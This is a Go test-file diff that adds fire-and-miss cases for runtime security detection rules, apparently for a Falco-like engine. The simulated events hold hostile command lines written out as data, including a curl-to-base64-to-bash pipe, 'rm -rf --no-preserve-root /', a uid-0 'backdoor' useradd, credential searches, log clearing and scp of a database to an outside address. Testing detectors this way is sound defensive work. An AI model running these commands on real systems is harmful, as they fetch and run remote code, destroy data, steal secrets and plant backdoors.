@@ -45,7 +45,7 @@ func defaultCases() []falcoCase {
 		e.Flags, e.Arg3 = req, 1
 		return e
 	}
-	return []falcoCase{
+	cases := []falcoCase{
 		{"Unexpected outbound connection",
 			func() *event.Enriched { return connectEv(cshell(proc("curl", "/usr/bin/curl")), "198.51.100.7", 8081) },
 			func() *event.Enriched { return connectEv(cshell(proc("curl", "/usr/bin/curl")), "198.51.100.7", 443) }},
@@ -200,6 +200,132 @@ func defaultCases() []falcoCase {
 			func() *event.Enriched { return openEv(cshell(proc("sh", "/bin/sh")), "/etc/crontab", oWronly|oTrunc) },
 			func() *event.Enriched { return openEv(cshell(proc("sh", "/bin/sh")), "/etc/crontab", 0) }},
 	}
+	return append(cases, behaviourCases()...)
+}
+
+// behaviourCases cover the rules for the behaviours Falco's rule sets name
+// (issue 10): each fires on an event made for it, and stays quiet on a
+// near miss chosen to be as close as the rule allows.
+func behaviourCases() []falcoCase {
+	cshell := func(p *event.Process) *event.Process { return inCtr(lineage(p, proc("sh", "/bin/sh")), ctr()) }
+	under := func(p *event.Process, parent *event.Process) *event.Process { return inCtr(lineage(p, parent), ctr()) }
+	hostExec := func(comm, exe string, args ...string) *event.Enriched {
+		return execEv(lineage(proc(comm, exe, append([]string{comm}, args...)...), proc("bash", "/bin/bash")))
+	}
+	ctrExec := func(comm string, args ...string) *event.Enriched {
+		return execEv(cshell(proc(comm, "/usr/bin/"+comm, append([]string{comm}, args...)...)))
+	}
+	pathEv := func(p *event.Process, nr uint16, path string) *event.Enriched {
+		e := sysEv(p, nr, 0)
+		e.Path = []byte(path)
+		return e
+	}
+	chmodEv := func(mode uint32) *event.Enriched {
+		e := pathEv(cshell(proc("chmod", "/bin/chmod")), event.SysFchmodat, "/tmp/payload")
+		e.Mode = mode
+		return e
+	}
+	socketEv := func(comm string, domain uint16) *event.Enriched {
+		e := sysEv(cshell(proc(comm, "/usr/bin/"+comm)), event.SysSocket, 3)
+		e.Family = domain
+		return e
+	}
+	ptraceEv := func(parent string) *event.Enriched {
+		e := sysEv(lineage(proc("sample", "/tmp/sample"), proc(parent, "/usr/bin/"+parent)), event.SysPtrace, 0)
+		e.Flags = 0 // PTRACE_TRACEME
+		return e
+	}
+	linkEv := func(nr uint16, target string) *event.Enriched {
+		e := pathEv(cshell(proc("ln", "/bin/ln")), nr, target)
+		e.Path2 = []byte("/tmp/x")
+		return e
+	}
+	nsEv := func(comm string, nr uint16) *event.Enriched {
+		e := sysEv(cshell(proc(comm, "/usr/bin/"+comm)), nr, 0)
+		e.Flags = 0x20000000 // CLONE_NEWUTS
+		return e
+	}
+	bpfEv := func(cmd uint64) *event.Enriched {
+		e := sysEv(cshell(proc("loader", "/tmp/loader")), sysBpf, 4)
+		e.Raw[0] = cmd
+		return e
+	}
+	return []falcoCase{
+		{"Execution from /dev/shm",
+			func() *event.Enriched { return execEv(lineage(proc("x", "/dev/shm/x"), proc("bash", "/bin/bash"))) },
+			func() *event.Enriched { return execEv(lineage(proc("x", "/dev/shmem/x"), proc("bash", "/bin/bash"))) }},
+		{"Base64-decoded payload piped to a shell",
+			func() *event.Enriched {
+				return execEv(under(proc("sh", "/bin/sh", "sh"), proc("sh", "/bin/sh", "sh", "-c", "echo aWQK | base64 -d | sh")))
+			},
+			func() *event.Enriched {
+				return execEv(under(proc("sh", "/bin/sh", "sh"), proc("sh", "/bin/sh", "sh", "-c", "echo aWQK | base64 -d > /tmp/id.txt; sh /opt/app/run.sh")))
+			}},
+		{"Remote file copy tool in container",
+			func() *event.Enriched { return ctrExec("scp", "/data/db.sql", "user@198.51.100.7:") },
+			func() *event.Enriched { return ctrExec("cp", "/data/db.sql", "/backup/") }},
+		{"Kubernetes client tool in container",
+			func() *event.Enriched { return ctrExec("kubectl", "get", "secrets", "-A") },
+			func() *event.Enriched { return hostExec("kubectl", "/usr/bin/kubectl", "get", "pods") }},
+		{"File made executable in container",
+			func() *event.Enriched { return chmodEv(0o755) },
+			func() *event.Enriched { return chmodEv(0o644) }},
+		{"Process environment read from /proc",
+			func() *event.Enriched {
+				return openEv(cshell(proc("cat", "/bin/cat", "cat", "/proc/1/environ")), "/proc/1/environ", 0)
+			},
+			func() *event.Enriched { return openEv(cshell(proc("ps", "/bin/ps", "ps", "e")), "/proc/1/environ", 0) }},
+		{"Shell configuration or history changed",
+			func() *event.Enriched {
+				return openEv(cshell(proc("sh", "/bin/sh", "sh", "-c", "echo x >> /root/.bashrc")), "/root/.bashrc", oWronly|oAppend)
+			},
+			func() *event.Enriched {
+				return openEv(lineage(proc("bash", "/bin/bash"), proc("sshd", "/usr/sbin/sshd")), "/root/.bash_history", oWronly|oAppend)
+			}},
+		{"Hidden file or directory created in container",
+			func() *event.Enriched {
+				return pathEv(cshell(proc("mkdir", "/bin/mkdir")), event.SysMkdir, "/tmp/.cache")
+			},
+			func() *event.Enriched {
+				return pathEv(cshell(proc("mkdir", "/bin/mkdir")), event.SysMkdir, "/home/app/.cache")
+			}},
+		{"User management tool in container",
+			func() *event.Enriched { return ctrExec("useradd", "-o", "-u", "0", "backdoor") },
+			func() *event.Enriched {
+				return execEv(under(proc("useradd", "/usr/sbin/useradd", "useradd", "-r", "nginx"), proc("dpkg", "/usr/bin/dpkg")))
+			}},
+		{"Search for private keys or passwords",
+			func() *event.Enriched { return ctrExec("find", "/", "-name", "id_rsa") },
+			func() *event.Enriched { return ctrExec("find", "/var/log", "-name", "*.log") }},
+		{"Search for AWS credentials",
+			func() *event.Enriched { return ctrExec("grep", "-r", "aws_secret_access_key", "/home") },
+			func() *event.Enriched { return ctrExec("grep", "-r", "aws_region", "/home") }},
+		{"Packet socket opened",
+			func() *event.Enriched { return socketEv("sniffer", 17) },
+			func() *event.Enriched { return socketEv("dhclient", 17) }},
+		{"PTRACE_TRACEME anti-debugging",
+			func() *event.Enriched { return ptraceEv("bash") },
+			func() *event.Enriched { return ptraceEv("gdb") }},
+		{"Bulk deletion",
+			func() *event.Enriched { return ctrExec("rm", "-rf", "/var/") },
+			func() *event.Enriched { return ctrExec("rm", "-rf", "/var/cache/app/tmp") }},
+		{"System log cleared",
+			func() *event.Enriched {
+				return openEv(cshell(proc("sh", "/bin/sh", "sh", "-c", ": > /var/log/auth.log")), "/var/log/auth.log", oWronly|oCreat|oTrunc)
+			},
+			func() *event.Enriched {
+				return openEv(cshell(proc("sh", "/bin/sh", "sh", "-c", "wc -l x > /var/log/batch.log")), "/var/log/batch.log", oWronly|oCreat|oTrunc)
+			}},
+		{"Link to a sensitive file created",
+			func() *event.Enriched { return linkEv(event.SysSymlinkat, "/etc/shadow") },
+			func() *event.Enriched { return linkEv(event.SysSymlinkat, "/etc/hostname") }},
+		{"Namespace changed in container",
+			func() *event.Enriched { return nsEv("unshare", event.SysUnshare) },
+			func() *event.Enriched { return nsEv("runc:[1:CHILD]", event.SysUnshare) }},
+		{"BPF program loaded",
+			func() *event.Enriched { return bpfEv(5) },
+			func() *event.Enriched { return bpfEv(1) }},
+	}
 }
 
 func TestDefaultRulesFireAndMiss(t *testing.T) {
@@ -240,5 +366,66 @@ func TestDefaultsWithStableSet(t *testing.T) {
 	got := rs.Match(catShadow())
 	if !sameSet(got, []string{"Credential file read", "Read sensitive file untrusted"}) {
 		t.Errorf("cat /etc/shadow matched %q", got)
+	}
+}
+
+// Other paths into the behaviour rules: each variant must raise exactly
+// its rule (fire) or nothing (miss).
+func TestBehaviourRuleVariants(t *testing.T) {
+	rs := loadDefaults(t)
+	cshell := func(p *event.Process) *event.Process { return inCtr(lineage(p, proc("sh", "/bin/sh")), ctr()) }
+	openMode := func(p *event.Process, path string, flags, mode uint32) *event.Enriched {
+		e := openEv(p, path, flags)
+		e.Mode = mode
+		return e
+	}
+	unlink := func(comm, path string) *event.Enriched {
+		e := sysEv(cshell(proc(comm, "/bin/"+comm)), event.SysUnlinkat, 0)
+		e.Path = []byte(path)
+		return e
+	}
+	exec := func(comm string, args ...string) *event.Enriched {
+		return execEv(cshell(proc(comm, "/usr/bin/"+comm, append([]string{comm}, args...)...)))
+	}
+	cases := []struct {
+		name string
+		e    *event.Enriched
+		want string // "" = no alert
+	}{
+		{"created executable", openMode(cshell(proc("wget", "/usr/bin/wget")), "/tmp/kworkerd", oWronly|oCreat, 0o755), "File made executable in container"},
+		{"created non-executable", openMode(cshell(proc("wget", "/usr/bin/wget")), "/tmp/data", oWronly|oCreat, 0o644), ""},
+		{"script from /dev/shm", exec("sh", "/dev/shm/x.sh"), "Execution from /dev/shm"},
+		{"history truncated by shell", openEv(cshell(proc("sh", "/bin/sh")), "/root/.bash_history", oWronly|oTrunc), "Shell configuration or history changed"},
+		{"history removed", unlink("rm", "/root/.bash_history"), "Shell configuration or history changed"},
+		{"profile.d written on the host", openEv(lineage(proc("sh", "/bin/sh"), proc("bash", "/bin/bash")), "/etc/profile.d/x.sh", oWronly|oCreat), "Shell configuration or history changed"},
+		{"other file removed", unlink("rm", "/root/notes.txt"), ""},
+		{"auth.log removed", unlink("rm", "/var/log/auth.log"), "System log cleared"},
+		{"app log removed", unlink("rm", "/var/log/app.log"), ""},
+		{"journal vacuum", exec("journalctl", "--vacuum-time=1s"), "System log cleared"},
+		{"hidden file in /tmp", openEv(cshell(proc("sh", "/bin/sh")), "/tmp/.s", oWronly|oCreat), "Hidden file or directory created in container"},
+		{"hidden file read in /tmp", openEv(cshell(proc("sh", "/bin/sh")), "/tmp/.s", 0), ""},
+		{"rm of /", exec("rm", "-rf", "--no-preserve-root", "/"), "Bulk deletion"},
+		{"rm -r of everything", exec("rm", "-r", "/*"), "Bulk deletion"},
+		{"rm without -r", exec("rm", "-f", "/tmp/orders.out"), ""},
+		{"shred", exec("shred", "-u", "/data/db"), "Bulk deletion"},
+		{"bpftool load", exec("bpftool", "prog", "load", "x.o", "/sys/fs/bpf/x"), "BPF program loaded"},
+		{"bpftool show", exec("bpftool", "prog", "show"), ""},
+		{"grep password", exec("grep", "-ri", "password", "/etc"), "Search for private keys or passwords"},
+		{"python base64 to shell", execEv(inCtr(lineage(proc("bash", "/bin/bash", "bash"), proc("sh", "/bin/sh", "sh", "-c", "curl -s x | base64 --decode | bash")), ctr())), "Base64-decoded payload piped to a shell"},
+		{"link to shadow", func() *event.Enriched {
+			e := sysEv(cshell(proc("ln", "/bin/ln")), event.SysLinkat, 0)
+			e.Path, e.Path2 = []byte("/etc/shadow"), []byte("/tmp/s")
+			return e
+		}(), "Link to a sensitive file created"},
+	}
+	for _, tc := range cases {
+		got := rs.Match(tc.e)
+		want := []string{}
+		if tc.want != "" {
+			want = []string{tc.want}
+		}
+		if !sameSet(got, want) {
+			t.Errorf("%s: matched %q, want %q", tc.name, got, want)
+		}
 	}
 }
